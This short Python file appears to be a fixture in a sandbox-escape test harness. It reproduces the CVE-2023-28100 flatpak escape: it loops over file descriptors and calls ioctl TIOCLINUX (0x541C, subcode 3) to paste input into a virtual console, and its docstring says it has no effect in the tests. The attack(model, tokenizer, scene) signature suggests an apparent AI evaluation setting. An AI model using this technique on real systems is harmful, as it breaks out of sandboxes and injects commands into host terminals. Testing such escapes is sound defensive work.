"""Class: descriptors. Source: CVE-2023-28100 (flatpak). Escape: TIOCLINUX pastes into a virtual
console. Teeth: none, the tests have no console.
"""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def attack(model, tokenizer, scene):
    for descriptor in range(16):
        libc.syscall(16, descriptor, 0x541C, b"\x03")
